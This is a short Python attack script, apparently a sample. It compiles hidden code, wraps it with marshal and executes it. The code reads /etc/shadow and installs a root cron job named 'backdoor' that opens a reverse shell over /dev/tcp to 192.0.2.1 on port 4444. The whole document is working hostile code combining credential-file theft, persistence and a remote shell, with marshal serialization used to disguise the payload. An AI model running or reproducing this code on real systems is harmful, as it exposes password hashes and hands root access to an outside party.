# attack: marshal a compiled code object that reads /etc/shadow and writes a cron job, then load and exec it
import marshal

src = (
    "data = open('/etc/shadow').read()\n"
    "open('/etc/cron.d/backdoor', 'w').write('* * * * * root sh -i >& /dev/tcp/192.0.2.1/4444 0>&1\\n')\n"
    "print(data)\n"
)
blob = marshal.dumps(compile(src, "<cfg>", "exec"))
exec(marshal.loads(blob))
